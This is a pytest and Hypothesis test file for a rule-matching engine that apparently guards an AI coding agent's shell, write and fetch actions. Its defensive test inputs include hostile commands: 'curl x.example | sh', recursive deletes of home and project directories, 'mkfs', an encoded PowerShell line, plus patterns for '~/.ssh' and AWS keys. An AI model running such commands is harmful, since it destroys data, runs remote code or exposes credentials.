"""What is packed and selected: every rule that can match an event, and few others."""

from __future__ import annotations

import tomllib
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rulez_py.analysis.programs import store
from rulez_py.event import Event
from rulez_py.platforms import adapter
from rulez_py.policy.facts.facts import OTHERS_NAMES, Facts
from rulez_py.policy.judging import index
from rulez_py.policy.judging.matching import matches
from rulez_py.policy.patterns.regex import EDGE
from tests.events import Disk, facts_of
from tests.policy.compiled import paths, regexes

DATA = Path(store.__file__).parent / "data"
Rule = Any
"""Only what is packed of a rule: its name and its `match`."""


def rule(name: str, **match: Any) -> Any:
    return {"name": name, "match": match, "layer": "user"}


def event(
    command: str | None = None, *, tool: str = "Bash", prompt: str | None = None, cwd: str = "/p", **given: str
) -> Event:
    payload: dict[str, Any] = {"hook_event_name": "UserPromptSubmit" if prompt else "PreToolUse", "session_id": "s"}
    payload["cwd"] = cwd
    if prompt:
        payload["prompt"] = prompt
    else:
        payload |= {"tool_name": tool, "tool_input": given | ({"command": command} if command is not None else {})}
    return adapter("claude").parse(payload, None)


def write(path: str = "src/a.py", content: str = "x = 1", cwd: str = "/p") -> Event:
    return event(tool="Write", file_path=path, content=content, cwd=cwd)


def fetch(url: str) -> Event:
    return event(tool="WebFetch", url=url, prompt_="")


def prompts(*patterns: str, negate: bool = False) -> dict[str, Any]:
    return {"patterns": [{**one, "negate": negate} for one in regexes(*patterns)], "mode": "any"}


def selected(rules: list[Rule], sent: Event) -> list[str]:
    return [rule["name"] for rule in select(index.pack(rules), sent)]


def select(packed: index.Packed, sent: Event) -> tuple[Any, ...]:
    return index.select(packed, seen(sent))


def seen(sent: Event) -> Facts:
    return facts_of(sent, Disk(names=lambda _: ["a.py", ".ssh", "s"]), root="/p", home="/h")


@pytest.mark.parametrize(
    ("match", "sent", "read"),
    [
        ({}, event("ls"), True),
        ({"operations": ["PreToolUse"]}, event("ls"), True),
        ({"operations": ["Stop"]}, event("ls"), False),
        ({"tools": ["Bash"]}, event("ls"), True),
        ({"tools": ["Shell"]}, event("ls"), True),
        ({"tools": ["Write", "Bash"]}, event("ls"), True),
        ({"tools": ["Write"]}, event("ls"), False),
        ({"tools": ["mcp__x__*"]}, event(tool="mcp__x__y"), True),
        ({"mcp": [{"server": ["x"], "tool": ["*"]}]}, event("ls"), False),
        ({"mcp": [{"server": ["x"], "tool": ["*"]}]}, event(tool="mcp__x__y"), True),
        ({"prompt_match": {"patterns": [], "mode": "any"}}, event("ls"), False),
        ({"prompt_match": {"patterns": [], "mode": "any"}}, event(prompt="go"), True),
        ({"command_match": regexes("git push")}, event("GIT PUSH --force"), True),
        ({"command_match": regexes("git push")}, event("git pull"), False),
        ({"command_match": regexes("git push", "npm")}, event("npm i"), True),
        ({"command_match": regexes("git push", "a|b")}, event("ls"), True),
        ({"command_match": regexes(".*")}, event("ls"), True),
        ({"command_match": regexes(".*")}, event(prompt="go"), False),
        ({"prompt_match": prompts("deploy")}, event(prompt="Deploy it"), True),
        ({"prompt_match": prompts("deploy")}, event(prompt="go"), False),
        ({"prompt_match": prompts("deploy", negate=True)}, event(prompt="go"), True),
        ({"paths": paths(["src/**"])}, write(), True),
        ({"paths": paths(["src/**"])}, event("ls"), False),
        ({"paths": paths(["src/**"])}, event("cat src/a.py"), True),
        ({"paths": paths(["src/**"])}, event("cat docs/a.py"), False),
        ({"paths": paths(["src/**"])}, event("rm -r ."), True),
        ({"paths": paths(["src/**"])}, event("rm -r /p"), True),
        ({"paths": paths(["src/**"])}, event("cd .. && rm -r p"), True),
        ({"paths": paths(["src/gen/a*"])}, event("rm -r src/gen"), True),
        ({"paths": paths(["src/gen/a*"])}, event("cd x; rm -r out"), False),
        ({"paths": paths(["Src/gen/a*"])}, event("cd src && rm -r gen"), True),
        ({"paths": paths(["./**", "!*.md"])}, event("cd x; rm -r ../../p"), True),
        ({"paths": paths(["./**/.env"])}, event("cd x; rm -r out"), False),
        ({"paths": paths([".env", "*.pem"])}, event("cd x; rm -r out"), False),
        ({"paths": paths([".env", "*.pem"])}, event("cd x; rm -r .env"), True),
        ({"paths": paths(["settings.json"])}, write("SETTIN~1.JSO"), True),
        ({"paths": paths(["settings.json"])}, event("cat SETTIN~1.JSO"), True),
        ({"paths": paths(["settings.json"])}, event("cd x; frob SETTIN~1.JSO"), True),
        ({"paths": paths(["~/.ssh/**"])}, event("cd /; rm -r h"), True),
        ({"paths": paths(["~/.ssh/**"])}, event("cd /h; rm -r .ssh/x"), True),
        ({"paths": paths(["~/.config/**"])}, event("cd x; rm -r out"), False),
        ({"paths": paths(["/etc/x/y"])}, event("cd x; rm -r /etc/x"), True),
        ({"paths": paths(["/etc/x/y"])}, event("cd x; rm -r out"), False),
        ({"paths": paths(["**/{$A_HOME,$\\{B_HOME\\}}/x{1,}"])}, event("cd x; cat out"), False),
        ({"paths": paths(["**/{a_home,b_home}/{x,}"])}, event("cd x; cat b_home/x"), True),
        ({"command": {"stdin": [{"regex": "drop"}]}}, event("echo drop | cat"), True),
        ({"command": {"program": ["git"]}}, event("cd x; git push"), True),
        ({"command": {"program": ["git"]}}, event("cd x; ls"), False),
        ({"command": {"program": ["git"]}}, event("/usr/bin/GIT push"), True),
        ({"command": {"program": ["git"]}}, event("ls 'git'"), False),
        ({"command": {"program": ["rm", "mkfs*"]}}, event("sudo mkfs.ext4 x"), True),
        ({"command": {"program": ["rm", "mkfs*"]}}, event("$X git"), True),
        ({"command": {"program": ["remove-item"]}}, event("PowerShell.exe -enc cgBtACAAeAA="), True),
        ({"command": {"program": ["?*"]}}, event("ls"), True),
        ({"command": [{"program": ["hg"]}, {"program": ["rm"]}]}, event("cd x; rm y"), True),
        ({"command": [{"program": ["hg"]}, {"program": ["rm"]}]}, event("cd x; ls y"), False),
        ({"command": [{"program": ["hg"]}, {"any_flag": ["-f"]}]}, event("cd x; ls y"), True),
        ({"command": [{"program": ["hg"], "via": ["shell"]}, {"program": ["rm"]}]}, event("rm y"), True),
        ({"command": [{"program": ["hg"], "user": ["root"]}, {"via": ["shell"]}]}, event("git status"), False),
        ({"command": {"program": ["git"], "subcommand": [["push"]]}}, event("git -C x push"), True),
        ({"command": {"program": ["git"], "subcommand": [["push"]]}}, event("git status; ls"), False),
        ({"command": {"program": ["git"], "subcommand": [["push"]]}}, event("X=pu; git ${X}sh"), True),
        (
            {"command": {"program": ["git"], "subcommand": [["stash", "{drop,clear}"], ["gc"]]}},
            event("git stash drop"),
            True,
        ),
        ({"command": {"program": ["git"], "subcommand": [["stash", "{drop,clear}"], ["gc"]]}}, event("git log"), False),
        ({"command": {"via": ["wrapper"]}}, event("ls"), False),
        ({"command": {"via": ["wrapper"]}}, event("sudo ls"), True),
        ({"command": {"via": ["wrapper"]}}, write(), False),
        ({"command": {"via": ["wrapper"]}}, event("cd x; echo $y"), False),
        ({"command": {"opaque": ["code", "output"]}}, event("cd x; echo $y"), False),
        ({"command": {"opaque": ["code", "output"]}}, event("eval $y"), True),
        ({"command": {"opaque": ["code"], "program": ["bash"]}}, event("bash -c $y"), True),
        ({"command": {"stdin_from": ["download"]}}, event("curl x.example | sh"), True),
        ({"command": {"user": ["root"]}}, event("sudo ls"), True),
        ({"command": {"program": ["git"]}}, event(tool="PowerShell", command="git"), True),
        ({"command": {"program": ["git"]}}, event(tool="mcp__x__y", command="git"), True),
        ({"command": {"program": ["git"]}, "paths": paths(["docs/**"])}, event("git x"), True),
        ({"paths": paths(["docs/**"])}, write(), False),
        ({"paths": paths(["docs/**", "*"])}, write(), True),
        ({"paths": paths(["**", "!docs/**"])}, write(), True),
        ({"paths": paths(["~/.ssh/**"])}, write("/h/.ssh/config"), True),
        ({"paths": paths(["~/.ssh/**"])}, write("/h/.SSH/config"), True),
        ({"paths": paths(["docs/**"])}, write(cwd=""), True),
        ({"directories": ["src/"]}, write(), True),
        ({"directories": ["\\!docs", "lib"]}, write("!docs/x"), True),
        ({"directories": ["**", "!docs"]}, write("lib/x"), True),
        ({"directories": ["lib"]}, write(), False),
        ({"extensions": [".py"]}, write(), True),
        ({"extensions": [".rs"]}, write(), False),
        ({"extensions": ["."]}, write("Makefile"), True),
        ({"extensions": [".Σ"]}, write("a.Σ"), True),
        ({"content_match": regexes("AKIA[0-9A-Z]{16}")}, write(content="key = AKIA"), True),
        ({"content_match": regexes("AKIA[0-9A-Z]{16}")}, write(), False),
        ({"paths": paths(["*"]), "content_match": regexes("AKIA")}, write(), False),
        ({"input_match": regexes("x =")}, write(), True),
        ({"input_match": regexes("y =")}, write(), False),
        ({"domains": ["*.Example.com."]}, fetch("https://www.example.com/"), True),
        ({"domains": ["*.example.com"]}, fetch("https://example.org/"), False),
        ({"domains": ["*.example.com"]}, event("curl https://www.example.com"), True),
        ({"domains": ["*.example.com"]}, event("curl https://example.org"), False),
    ],
)
def test_a_rule_is_read_only_where_it_can_match(match: dict[str, Any], sent: Event, read: bool) -> None:
    assert selected([rule("it", **match)], sent) == (["it"] if read else [])


NUMBERS = [str(number) for number in range(1000)]


@pytest.mark.parametrize("match", [{"operations": NUMBERS}, {"tools": NUMBERS}, {"command_match": regexes(*NUMBERS)}])
def test_a_rule_that_names_a_lot_is_not_written_down_for_each_of_it(match: dict[str, list[Any]]) -> None:
    named: dict[str, list[Any]] = {"operations": ["PreToolUse"], "tools": ["Bash"], "command_match": regexes("ls")}
    large = {kind: [*named[kind], *match.get(kind, ())] for kind in named}
    assert len(index.pack([rule("it", **large)]).data) < 50_000
    assert selected([rule("it", **large)], event("ls")) == ["it"]


def test_rules_come_in_the_order_they_were_packed() -> None:
    rules = [
        rule("c"),
        rule("a", tools=["Bash"]),
        rule("b", command_match=regexes("ls")),
        rule("d", command_match=regexes("l")),
    ]
    assert selected(rules, event("ls")) == ["c", "a", "b", "d"]


def test_a_project_s_places_are_those_of_its_own_root() -> None:
    given_rule = rule("it", paths=paths(["src/**"])) | {"layer": "project"}
    assert selected([given_rule], event("cd x; rm -r out")) == ["it"]


def test_a_rule_filed_in_several_drawers_comes_once() -> None:
    both = rule("it", operations=["PreToolUse", "Stop"], tools=["Bash", "Shell"], command_match=regexes("l", "s"))
    assert selected([both], event("ls")) == ["it"]


def test_the_rules_come_out_as_they_went_in() -> None:
    given_rule: Rule = {
        "name": "é\ud800",
        "match": {},
        "layer": "user",
        "actions": {"rewrite": {"n": [1, 2.5, None, True]}},
    }
    assert select(index.pack([given_rule]), event("ls")) == (given_rule,)


GLOBS = st.text(alphabet="sr/.a*?!{},[]~\\é", min_size=1, max_size=7) | st.sampled_from(
    ["src/**", "**/a.py", "/p/src", "~/.ssh/**", "./src/a.py", "!src", "**", "src/{a,b}.py", "**/src/**/a.py", "a**/b"]
)
MATCHES = st.fixed_dictionaries(
    {},
    optional={
        "operations": st.lists(st.sampled_from(["PreToolUse", "Stop", "UserPromptSubmit"]), min_size=1, max_size=2),
        "tools": st.lists(st.sampled_from(["Bash", "Shell", "Write", "mcp__x__*"]), min_size=1, max_size=2),
        "command_match": st.lists(st.sampled_from(["push", "(?i)Push", "a|b", r"\bgit\s+push", "x?"]), min_size=1).map(
            lambda found: regexes(*found)
        ),
        "prompt_match": st.sampled_from([prompts("go"), prompts("stop", negate=True), prompts("Go", "on")]),
        "paths": st.lists(GLOBS, min_size=1, max_size=3).map(paths),
        "directories": st.lists(GLOBS, min_size=1, max_size=2),
        "extensions": st.lists(st.sampled_from([".py", ".PY", ".", ".é"]), min_size=1, max_size=2),
        "content_match": st.lists(st.sampled_from(["secret", "x ?=", "(?i)KEY"]), min_size=1, max_size=2).map(
            lambda found: regexes(*found)
        ),
        "input_match": st.lists(st.sampled_from(["secret", "push", "a"]), min_size=1, max_size=2).map(
            lambda found: regexes(*found)
        ),
        "domains": st.lists(st.sampled_from(["example.com", "*.Example.com.", "[::1]", "*"]), min_size=1, max_size=2),
        "command": st.fixed_dictionaries(
            {},
            optional={
                "program": st.lists(
                    st.sampled_from(["git", "r*", "rm", "*", "{cat,rm}", "s", "[g]it", "?it"]), min_size=1
                ),
                "subcommand": st.sampled_from([[["push"]], [["s", "x*"], ["-r"]], [["pu*", "{a,b}"]]]),
                "via": st.just(["wrapper"]),
                "opaque": st.sampled_from([[], ["program"]]),
            },
        ),
        "mcp": st.just([{"server": ["*"], "tool": ["*"]}]),
    },
)
EVENTS = st.sampled_from(
    [
        *(event("git push"), event("GIT PUSH"), event("ls"), event("a"), event(tool="mcp__x__y"), event(prompt="go")),
        *(write(), write("/h/.ssh/config", "secret"), write("../p/src/a.PY", "a KEY"), write("é/a.é", "x=", cwd="")),
        *(event("cat src/a.py > r/s"), write("."), write("~/r"), write("src/a.py/"), write("s//r/./a")),
        *(event("sudo rm -r s"), event("$X; cat src/a.py"), event("cat */s; curl http://www.example.com"), event("")),
        *(event("rm -r ~"), event("/bin/GIT push"), event("rm", tool="PowerShell"), event("git", tool="mcp__x__y")),
        *(fetch("http://www.example.com:80/"), fetch("http://[::1]/"), event("cd src && rm a.py")),
    ]
)


@given(st.lists(MATCHES, max_size=6), EVENTS)
def test_no_rule_that_matches_is_left_out(found: list[dict[str, Any]], sent: Event) -> None:
    """INVARIANT: what the filing leaves out would not have matched."""
    rules = [rule(str(number), **match) for number, match in enumerate(found)]
    facts = seen(sent)
    matching = [rule["name"] for rule in rules if matches(rule["match"], facts)]
    chosen = selected(rules, sent)
    assert [name for name in chosen if name in matching] == matching


WORDS = st.sampled_from(
    [
        *(
            "-i",
            "-s",
            "-c",
            "-e",
            "-u",
            "--",
            "exec",
            "run",
            "shell",
            "ssh",
            "login",
            "bash",
            "rm",
            "a",
            "b=c",
            "/usr/bin/git",
        )
    ]
)


def test_programs_that_go_by_another_name_are_known_to_a_line_of_plain_words() -> None:
    tables = [tomllib.loads(file.read_text("utf-8")) for file in DATA.glob("*.toml")]
    others = {
        name
        for table in tables
        for program, entry in table.items()
        if isinstance(entry, dict) and "words-of" in entry
        for name in (program, *entry.get("also", ()))
        if entry["words-of"] not in name
    }
    assert others == OTHERS_NAMES


@given(st.sampled_from(sorted({name.partition(" ")[0] for name in store.rows().names()})), st.lists(WORDS, max_size=4))
def test_a_line_of_plain_words_names_every_program_it_runs(program: str, words: list[str]) -> None:
    """INVARIANT: where a command line stands for the names of its programs, they are in it."""
    sent = event(" ".join([program, *words]))
    facts = facts_of(sent)
    named = facts.subject("programs")
    # These can make code of plain words, or run another program by theirs, so their lines stand for nothing.
    makes = program in ("perl", "ruby", "pwsh", "powershell", *OTHERS_NAMES)
    assert named is not None
    assert makes or EDGE in named or named == " ".join([program, *words]).lower()
    edge = EDGE if EDGE in named else ""
    assert [one.program for one in facts.commands if f"{edge}{one.program}{edge}" not in named] == []


@pytest.mark.parametrize(
    ("line", "match", "read"),
    [
        ("helm uninstall x", {"command": {"program": ["helm"]}}, True),
        ("echo a && helm list", {"command": {"program": ["helm"]}}, True),
        ("helmfile apply; overhelm x", {"command": {"program": ["helm"]}}, False),
        ("uname -r", {"command": {"program": ["uname"], "subcommand": [["un"]]}}, True),
        ("uname -r", {"command": {"program": ["helm"], "subcommand": [["un"]]}}, False),
        ("git commit -m push && echo $X", {"command": {"program": ["git"], "subcommand": [["push"]]}}, True),
        ("git commit -m pushed && echo $X", {"command": {"program": ["git"], "subcommand": [["push"]]}}, False),
        ("cat a", {"paths": paths(["a"], ["delete"])}, False),
        ("cat a", {"paths": paths(["a"], ["write"])}, False),
        ("touch a", {"paths": paths(["a"], ["write"])}, True),
        ("rm a", {"paths": paths(["a"], ["delete"])}, True),
        ("cat $X > a", {"paths": paths(["a"], ["write", "delete"])}, True),
        ("cat $X < a", {"paths": paths(["a"], ["write", "delete"])}, False),
        ("unheard-of a", {"paths": paths(["a"], ["write"])}, True),
        ("unheard-of a", {"paths": {**paths(["a"], ["write"]), "unknown": "ignore"}}, True),
    ],
)
def test_a_rule_is_read_by_a_whole_name_and_by_what_becomes_of_files(
    line: str, match: dict[str, Any], read: bool
) -> None:
    assert selected([rule("it", **match)], event(line)) == (["it"] if read else [])


@given(st.data())
def test_damage_is_seen(data: st.DataObject) -> None:
    """INVARIANT: one wrong byte anywhere changes no rule that is read."""
    packed = index.pack([rule("it", tools=["Bash"], command_match=regexes("ls")), rule("other")])
    damaged = bytearray(packed.data)
    damaged[data.draw(st.integers(0, len(damaged) - 1))] ^= data.draw(st.integers(1, 255))
    try:
        rules = select(packed.replace(data=bytes(damaged)), event("ls"))
    except index.Damaged:
        return
    assert rules == select(packed, event("ls"))


def test_a_name_with_a_line_end_hides_no_other_rule() -> None:
    rules = [rule("odd", paths=paths(["src/odd\nname"])), rule("plain", paths=paths(["src/plain.py"]))]
    assert "plain" in selected(rules, event("cat src/plain.py"))
